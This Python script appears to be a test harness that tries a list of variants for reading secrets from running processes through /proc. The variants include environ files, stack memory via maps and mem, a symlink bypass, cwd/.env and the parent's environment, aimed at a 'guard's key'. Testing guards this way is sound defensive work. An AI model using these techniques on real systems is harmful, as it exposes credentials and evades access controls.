"""Read what another process knows: its variables, its memory, its folder and files."""

import os

import aim

PROC = f"/proc/{aim.PROCESS}"


def memory(path=f"{PROC}/mem"):
    with open(f"{PROC}/maps") as maps, open(path, "rb", buffering=0) as mem:
        for line in maps:
            if line.rstrip().endswith("[stack]"):  # where its variables are
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                mem.seek(start)
                aim.take(mem.read(end - start))


def through_link():
    os.symlink(PROC, "link")
    aim.read("link/environ")


def own(path):
    """Read the variables that this process was started with: the guard's key is among them."""
    aim.read(path)
    aim.reached()


WAYS = {
    "environ": lambda: aim.read(f"{PROC}/environ"),
    "task": lambda: aim.read(f"{PROC}/task/{aim.PROCESS}/environ"),
    "link": through_link,
    "mem": memory,
    "cwd": lambda: aim.read(f"{PROC}/cwd/.env"),
    "fd": lambda: aim.read(f"{PROC}/fd/0"),
    "own": lambda: own("/proc/self/environ"),
    "own by number": lambda: own(f"/proc/{os.getpid()}/environ"),
    "own task": lambda: own(f"/proc/self/task/{os.getpid()}/environ"),
    "own thread": lambda: own("/proc/thread-self/environ"),
    "parent": lambda: own(f"/proc/{os.getppid()}/environ"),
}
WAYS[aim.VARIANT]()
